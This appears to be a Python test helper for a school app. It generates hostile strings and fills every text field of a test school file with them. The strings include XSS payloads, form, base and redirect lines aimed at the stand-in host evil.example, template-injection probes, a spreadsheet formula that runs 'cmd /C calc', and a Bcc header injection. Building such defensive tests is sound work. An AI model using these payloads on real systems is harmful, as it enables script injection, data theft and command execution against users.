"""Hostile strings, and a small school that has one of them in every place where a school file takes words."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from contextlib import suppress
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from chalicelib.domain.errors import Problem
from chalicelib.domain.parsing import parse
from chalicelib.domain.school import School
from chalicelib.domain.win import Submission, Win
from chalicelib.work.desk import Desk
from chalicelib.work.secrets import source_of
from chalicelib.work.submit import build_win

LONGEST = 300
"""Characters in a text of a school file."""
_RUN = ("alert(1)", "print()", "location='//evil.example'")
_OWN = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    '"><svg onload={run}>',
    "' onfocus={run} autofocus x='",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style></script><iframe srcdoc='<script>{run}</script>'>",
    "</option></select><details open ontoggle={run}>",
    "<a href=javascript:{run}>x</a>",
    "<!--<img src=--><img src=x onerror={run}>-->",
    "</text></svg><math><mtext><img src=x onerror={run}>",
    "<base href=//evil.example><form action=//evil.example><input name=story>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "&lt;script&gt;{run}&lt;/script&gt; &#x3C;b&#x3E; &amp;amp;",
    "{{{{ 7*7 }}}} {{% raw %}} ${{{run}}} {{who}} {{team}} {{school}} %s %(x)s",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e \\x3cb\\x3e",
    'url(#lesson) id="lesson" ]]><![CDATA[<b>{run}',
    'javascript:{run}//\'"`><x y="',
    '<template><noscript><p title="</noscript><img src=x onerror={run}>">',
    "=cmd|' /C calc'!A0 @SUM(1+1)*{run} <u>",
    "Wins\r\nBcc: everyone@evil.example\r\n\r\n<b>{run}</b>",
)
_LONG = (
    "\U0001f469\u200d\U0001f3eb" * 100,
    "x" * 299 + "\U0001f600",
    "W" * 300,
    "bell\x07, back\x08, form\x0c, escape\x1b[31m, not a letter\ufffe",
    "\u202e" + "<b>" * 90,
)
GENERATED = (*(one.format(run=run) for one in _OWN for run in _RUN), *_LONG)
"""Ours: enough where the lists of others are not at hand."""


def hostile_strings(data: Path) -> list[str]:
    """Return ours, and those of the lists in a folder of real inputs, each once and fit for a school file."""
    given = [*GENERATED]
    if (folder := data / "bad_input").is_dir():
        given += (folder / "xss_payloads_dev.txt").read_text("utf-8").split("\n")
        given += json.loads((folder / "blns.json").read_text("utf-8"))[::4]
    return list(dict.fromkeys(text for one in given if (text := one.replace("\x00", "").strip()[:LONGEST].strip())))


Pick = Callable[[int], str]
PLACES = 16
"""How many different strings `school_of` asks for."""


def school_of(pick: Pick) -> School:
    """Make a school with one thing of each kind; `pick(n)` gives the words of the n-th place."""
    name = iter(range(PLACES))

    def word() -> str:
        return pick(next(name))

    def named(one: str, **more: Any) -> dict[str, Any]:
        return {"id": one, "name": word(), **more}

    return School.model_validate(
        {
            "school": "hostile",
            "name": word(),
            "shown_as": word(),
            "time_zone": "America/New_York",
            "school_year": {"starts": "08-24", "breaks": [{"name": word(), "from": "2026-10-12", "to": "2026-10-13"}]},
            "vision": word(),
            "goals": [named("goal", signs=[named("sign", mode="looks")])],
            "practices": [named("practice", variations={"a": {"name": word(), "example": word()}})],
            "teams": [named("team", headcount=20)],
            "groups": [named("group", headcount=40)],
            "links": [{"code": "staff", "prompt": word()}],
            "leaders": [{"name": word(), "email": "dana@maplerow.example", "role": "leader"}],
            "staff": [word()],
            "prompts": [word()],
            "sign_in": {
                "providers": [
                    {"id": "google", "name": word(), "issuer": "https://accounts.google.com", "client_id": "x"}
                ]
            },
        }
    )


def renamed(school: School, words: Sequence[str]) -> School:
    """Give everything in a school file another name, in turn; ids, and so its history, stay as they are."""
    at = iter(range(10**6))

    def turned(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {k: turned(v, "name" if key in _WORDS else k) for k, v in value.items()}
        if isinstance(value, list | tuple):
            return [turned(one, key) for one in value]
        return words[next(at) % len(words)] if key in _WORDS and isinstance(value, str) else value

    return School.model_validate(turned(school.model_dump(by_alias=True)))


_WORDS = {"name", "shown_as", "vision", "prompt", "prompts", "example"}


def store_shown(desk: Desk, bodies: Sequence[dict[str, Any]], last: datetime) -> list[Win]:
    """Store wins that a leader let pass, many at once, one a millisecond; what no door takes is left out."""
    batch = []
    for n, body in enumerate(bodies):
        with suppress(Problem):
            told = parse(Submission, json.dumps({"link": "staff", **body}).encode())
            win = build_win(desk, told, "spreadsheet", last - timedelta(milliseconds=n))
            shown = win.model_copy(update={"state": "visible", "held_for": ()})
            batch.append((shown, source_of(desk.keys, "spreadsheet", str(body["nonce"]), b"")))
    desk.table.save_wins(batch)
    return [win for win, _ in batch]
